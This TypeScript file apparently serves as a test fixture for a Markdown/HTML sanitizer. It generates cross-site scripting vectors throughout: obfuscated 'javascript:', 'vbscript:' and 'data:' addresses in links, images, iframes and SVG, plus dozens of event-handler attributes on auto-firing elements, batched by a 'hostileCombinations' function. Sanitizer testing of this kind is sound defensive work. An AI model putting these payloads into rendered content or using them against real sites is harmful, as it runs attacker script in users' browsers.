/** Ways to write an address whose scheme runs code, as `{call}` instead of the code. */
const addresses = [
  'javascript:{call}',
  'JAVASCRIPT:{call}',
  'javascript://example.com/%0A{call}',
  'javascript:/*--></title></style></textarea>*/{call}',
  'javascript&colon;{call}',
  'javascript&#58;{call}',
  'javascript&#x3A;{call}',
  '&#0000106avascript:{call}',
  '&#x6A;avascript:{call}',
  'jav&#x09;ascript:{call}',
  'jav&#x0A;ascript:{call}',
  'jav&#x0D;ascript:{call}',
  'java\u0000script:{call}',
  '\u200bjavascript:{call}',
  '\u00a0javascript:{call}',
  '%6A%61vascript:{call}',
  'view-source:javascript:{call}',
  'livescript:{call}',
  'vbscript:{call}',
  'data:text/html,<script>{call}</script>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-{call}',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoKSIvPg==',
  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml" onclick="{call}"/>',
  'feed:javascript:{call}',
  'jar:javascript:{call}',
];

/** Places in Markdown and HTML where an address is, as `{address}`. */
const places = [
  '[link]({address})',
  '[link](<{address}>)',
  '![image]({address})',
  '<{address}>',
  '<a href="{address}">a</a>',
  '<area href="{address}"><form action="{address}"><button formaction="{address}">b</button></form>',
  '<iframe src="{address}"></iframe><embed src="{address}"><object data="{address}"></object>',
  '<svg><a xlink:href="{address}"><text>a</text></a><animate href="#x" attributeName="href" to="{address}"/></svg>',
  '<math href="{address}"><maction actiontype="statusline" xlink:href="{address}">m</maction></math>',
];

/** Events for which browsers run code of an attribute. */
const events =
  `abort activate afterprint afterscriptexecute animationcancel animationend animationiteration
  animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle
  beforeunload begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange
  contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop
  durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gesturestart
  gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend
  loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
  mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter
  pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat
  reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select
  selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel
  touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection
  unload volumechange waiting webkitanimationstart webkitmouseforceup webkitplaybacktargetavailabilitychanged
  webkittransitionend wheel`.split(/\s+/);

/** Elements that carry such an attribute, as `{handler}`. */
const carriers = [
  '<img src=x {handler}>',
  '<svg {handler}><animate {handler} attributeName=x dur=1s></svg>',
  '<video autoplay src=x {handler}><source src=x {handler}></video>',
  '<details open {handler}><summary {handler}>s</summary></details>',
  '<input autofocus {handler}>',
  '<x tabindex=1 autofocus contenteditable {handler}>x</x>',
  '<body {handler}><marquee {handler}>m</marquee>',
  '<a href=# style="animation:x 1s" {handler}>a</a>',
];

/** Several vectors in one answer, each a block of Markdown of its own. */
export function hostileCombinations(call: string): string[] {
  const inAddresses = addresses.flatMap((address) =>
    places.map((place) => place.replaceAll('{address}', address.replaceAll('{call}', call))),
  );
  const inHandlers = events.map((event, index) => {
    const carrier = carriers[index % carriers.length] ?? '';
    return carrier.replaceAll('{handler}', `on${event}=${call}`);
  });
  return inBatches([...inAddresses, ...inHandlers], 25);
}

function inBatches(vectors: readonly string[], size: number): string[] {
  const batches: string[] = [];
  for (let start = 0; start < vectors.length; start += size) {
    batches.push(vectors.slice(start, start + size).join('\n\n---\n\n'));
  }
  return batches;
}
